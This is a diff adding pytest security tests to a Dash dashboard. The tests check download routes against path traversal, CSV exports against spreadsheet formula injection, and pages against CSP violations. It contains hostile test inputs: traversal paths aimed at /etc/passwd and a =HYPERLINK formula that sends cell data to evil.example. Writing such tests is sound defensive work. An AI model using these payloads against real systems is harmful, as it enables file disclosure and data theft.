@@ -55,6 +55,16 @@ def _update_body(value: str) -> dict:
     }
 
 
+@pytest.fixture(autouse=True)
+def _forget_mini_apps():
+    """Requests to a mini app leave it as Dash's "current app" in this thread; a pages app created later
+    (the session `app`) would then register its routes on the mini app. Forget it after each test."""
+    yield
+    from dash import _get_app
+
+    _get_app.app_context.set(None)
+
+
 @pytest.fixture
 def client():
     return _mini_app().server.test_client()
@@ -200,3 +210,102 @@ def test_browser_check_detects_a_broken_csp():
     with live.threaded_server(_mini_app(csp_ok=False).server) as url:
         violations, text = _csp_violations(url + "/", wait_for="z")
     assert violations and text == ""
+
+
+# --- the real app: downloads, CSV exports, CSP in the browser ---------------------------------------------
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+@pytest.fixture
+def app_client(app):
+    return app.server.test_client()
+
+
+@pytest.mark.parametrize("path", [
+    "/download/../../etc/passwd.csv", "/download/..%2F..%2Fetc%2Fpasswd.csv", "/download/%2e%2e.csv",
+    "/download/..%5C..%5Cetc%5Cpasswd.csv", "/download/observations.parquet", "/download/datapackage.json",
+    "/download/observations.csv%00.txt", "/download/%252e%252e%252fetc.csv", "/download//etc/passwd.csv",
+])
+def test_download_routes_reject_traversal_and_unknown_files(app_client, path):
+    """No file is served: either a 404, or (for paths outside /download/<name>.csv) Dash's own page shell,
+    which the browser's router turns into "page not found"."""
+    r = app_client.get(path)
+    body = r.get_data()
+    assert r.status_code == 404 or (r.mimetype == "text/html" and b"_dash-config" in body), r.status_code
+    assert r.mimetype != "text/csv" and b"root:" not in body and b"PAR1" not in body
+    assert str(security.__file__).split("dashboard")[0].encode() not in body  # no server paths either
+
+
+@pytest.mark.parametrize("name", ["nope", "OBSERVATIONS", ".observations", "....", "datapackage", "a" * 300])
+def test_unknown_table_names_get_404(app_client, name):
+    assert app_client.get(f"/download/{name}.csv").status_code == 404
+
+
+def test_download_route_serves_a_published_table(app_client, fixture_dir):
+    r = app_client.get("/download/indicators.csv")
+    assert r.status_code == 200 and r.mimetype == "text/csv"
+    assert r.headers["X-Content-Type-Options"] == "nosniff"
+    assert r.get_data(as_text=True).splitlines()[0].startswith("indicator_id,")
+    assert r.get_data() == (fixture_dir / "indicators.csv").read_bytes()  # no formula cells: served as is
+
+
+@pytest.fixture
+def poisoned(tmp_path, fixture_dir):
+    """The fixture with the world's display name turned into a spreadsheet formula."""
+    import shutil
+
+    import pandas as pd
+
+    from dashboard import data
+
+    out = shutil.copytree(fixture_dir, tmp_path / "published")
+    entities = pd.read_parquet(out / "entities.parquet")
+    entities.loc[entities["entity_id"] == "world", "name"] = FORMULA
+    entities.to_parquet(out / "entities.parquet", index=False)
+    entities.to_csv(out / "entities.csv", index=False)
+    data.use(out)
+    return out
+
+
+def _csv_cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_chart_csv_export_neutralises_formulas(app, poisoned):
+    """Through a real request: the explorer's CSV export button, as the browser sends it."""
+    import requests
+
+    from benchmarks import loadtest
+
+    with live.threaded_server(app.server) as url:
+        scenario = loadtest.capture(requests.Session(), url)
+        body = next(b for p in scenario.pages if p.path == "/explorer" for b in p.exports)
+        r = requests.post(url + "/_dash-update-component", json=body, timeout=30)
+    assert r.status_code == 200
+    (payload,) = [v["data"] for v in r.json()["response"].values()]
+    cells = _csv_cells(payload["content"])
+    assert "'" + FORMULA in cells  # the world's name, neutralised
+    assert FORMULA not in cells
+
+
+def test_table_download_neutralises_formulas(app, poisoned):
+    r = app.server.test_client().get("/download/entities.csv")
+    assert r.status_code == 200
+    cells = _csv_cells(r.get_data(as_text=True))
+    assert FORMULA not in cells, "a published table download must not carry a live spreadsheet formula"
+
+
+@pytest.mark.browser
+@pytest.mark.skipif(not live.browser_available(), reason="needs Debian chromium and chromium-driver")
+def test_real_pages_render_without_csp_violations(app):
+    paths = ["/", "/explorer", "/explorer?tab=map", "/gender", "/targets", "/claims", "/data", "/country/KEN"]
+    found = {}
+    with live.threaded_server(app.server) as url:
+        for path in paths:
+            violations, text = _csp_violations(url + path, wait_for="main")
+            found[path] = violations
+            assert text, f"{path} rendered nothing"
+    assert found == {p: [] for p in paths}
